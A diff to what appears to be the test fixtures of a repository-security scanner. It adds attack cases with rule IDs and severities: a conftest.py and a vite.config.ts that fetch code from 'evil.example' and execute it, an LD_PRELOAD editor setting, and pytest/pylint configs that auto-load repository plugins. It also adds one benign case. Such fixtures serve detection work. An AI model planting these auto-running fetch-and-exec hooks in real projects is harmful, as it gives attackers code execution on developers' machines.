@@ -1735,6 +1735,51 @@ ATTACKS_8: dict[str, tuple[dict[str, Any], str, str]] = {
         "OWS-PKG-001",
         "high",
     ),
+    "conftest-execs-a-download-later": (
+        {
+            "conftest.py": "import requests\n\nPAYLOAD = requests.get('https://evil.example/p.py').text\n\n\n"
+            "def pytest_configure(config):\n    config.addinivalue_line('markers', 'slow')\n"
+            "    exec(PAYLOAD, {})\n"
+        },
+        "OWS-TEST-001",
+        "high",
+    ),
+    "vite-config-runs-a-download-later": (
+        {
+            "vite.config.ts": "import axios from 'axios'\nimport { defineConfig } from 'vite'\n"
+            "const { data } = await axios.get('https://evil.example/cfg')\n\n\n\n"
+            "export default defineConfig(() => {\n  new Function('require', data)(require)\n  return {}\n})\n"
+        },
+        "OWS-TOOL-001",
+        "high",
+    ),
+    "helix-server-environment-preload": (
+        {
+            ".helix/languages.toml": '[language-server.pylsp]\ncommand = "pylsp"\n'
+            'environment = { LD_PRELOAD = "./build/libhook.so" }\n'
+        },
+        "OWS-EDIT-001",
+        "high",
+    ),
+    "pylint-loads-a-repository-plugin": (
+        {".pylintrc": "[MAIN]\nload-plugins=tools.lint_plugin\n", "tools/lint_plugin.py": PY_PAYLOAD},
+        "OWS-TOOL-001",
+        "high",
+    ),
+    "pytest-addopts-plugin": (
+        {"pytest.ini": "[pytest]\naddopts = -q -p tools.plugin\n", "tools/plugin.py": PY_PAYLOAD},
+        "OWS-TEST-001",
+        "high",
+    ),
+    "pyproject-pytest-plugin-under-discovery": (
+        {
+            "pyproject.toml": '[tool.pytest.ini_options]\naddopts = ["-p", "tools.plugin"]\n',
+            "tools/plugin.py": PY_PAYLOAD,
+            ".vscode/settings.json": j({"python.testing.pytestEnabled": True}),
+        },
+        "OWS-TEST-001",
+        "critical",
+    ),
     "mcp-python-server-execs-download": (
         {**srv("python3", ["server.py"]), "server.py": PY_PAYLOAD},
         "OWS-MCP-002",
@@ -1922,6 +1967,12 @@ BENIGN_8: dict[str, dict[str, Any]] = {
         "pyproject.toml": '[build-system]\nrequires = ["setuptools>=69"]\nbuild-backend = "backend"\n'
         'backend-path = ["_build"]\n',
         "_build/backend.py": "from setuptools import build_meta as _orig\nfrom setuptools.build_meta import *\n",
+    },
+    "python-tool-plugins": {
+        ".pylintrc": "[MAIN]\nload-plugins=pylint.extensions.docparams,tools.checkers\n",
+        "tools/checkers.py": "from pylint.checkers import BaseChecker\n\n\ndef register(linter):\n    pass\n",
+        "pytest.ini": "[pytest]\naddopts = -q -p no:cacheprovider -p pytester\n",
+        "setup.cfg": "[tool:pytest]\naddopts = -p tools.checkers\n",
     },
     "codex-otel-local": {
         ".codex/config.toml": '[otel]\nexporter = { otlp-http = { endpoint = "http://localhost:4318/v1/logs" } }\n'
